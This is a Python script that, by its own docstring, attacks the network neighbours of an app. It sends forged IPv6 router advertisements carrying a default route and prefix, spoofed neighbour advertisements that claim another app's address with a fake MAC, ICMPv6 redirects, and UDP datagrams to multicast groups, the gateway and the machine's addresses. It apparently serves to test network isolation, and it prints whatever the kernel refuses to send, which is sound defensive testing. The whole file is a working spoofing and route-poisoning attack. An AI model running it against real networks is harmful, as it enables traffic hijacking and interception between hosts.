"""Attacks the neighbours of an app below addresses and ports: sends router advertisements, neighbour advertisements, redirects and
datagrams to all nodes, all routers, the gateway and each address of the machine.

Arguments: the address to send from, the address of another app, whose neighbours are to take us for it, and link-local addresses of the
machine. What the kernel does not let us send is printed to standard error.
"""
import socket
import struct
import sys

SOURCE, OTHER, MACHINES = sys.argv[1], sys.argv[2], sys.argv[3:]
ICMPV6 = 58
ROUTER_ADVERTISEMENT, NEIGHBOUR_ADVERTISEMENT, REDIRECT = 134, 136, 137
PREFIX_OPTION, ROUTE_OPTION, TARGET_LINK_ADDRESS_OPTION = 3, 24, 2
MAC = bytes.fromhex("020000000005")
scope = socket.if_nametoindex("eth0")


def open_socket(kind, protocol):
    opened = socket.socket(socket.AF_INET6, kind, protocol)
    opened.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    opened.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    opened.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope)
    opened.bind((SOURCE, 0, 0, scope))
    return opened


def send(sender, message, to, port):
    try:
        sender.sendto(message, (to, port, 0, scope))
    except OSError as error:
        print(to, error, file=sys.stderr)


raw = open_socket(socket.SOCK_RAW, ICMPV6)
udp = open_socket(socket.SOCK_DGRAM, 0)
prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
other = socket.inet_pton(socket.AF_INET6, OTHER)
# A router with a default route, an address prefix and a route.
router = struct.pack("!BBHBBHII", ROUTER_ADVERTISEMENT, 0, 0, 64, 0, 1800, 0, 0)
router += struct.pack("!BBBBIII16s", PREFIX_OPTION, 4, 64, 0xC0, 3600, 3600, 0, prefix)
router += struct.pack("!BBBBI16s", ROUTE_OPTION, 3, 48, 0, 3600, prefix)
# A neighbour in the place of the other app.
neighbour = struct.pack(
    "!BBHI16sBB6s", NEIGHBOUR_ADVERTISEMENT, 0, 0, 0x60000000, other, TARGET_LINK_ADDRESS_OPTION, 1, MAC
)
redirect = struct.pack("!BBHI16s16s", REDIRECT, 0, 0, 0, other, other)
for to in ["ff02::1", "ff02::2", "fe80::1", *MACHINES]:
    for message in router, neighbour, redirect:
        send(raw, message, to, 0)
    send(udp, b"hello", to, 7000)
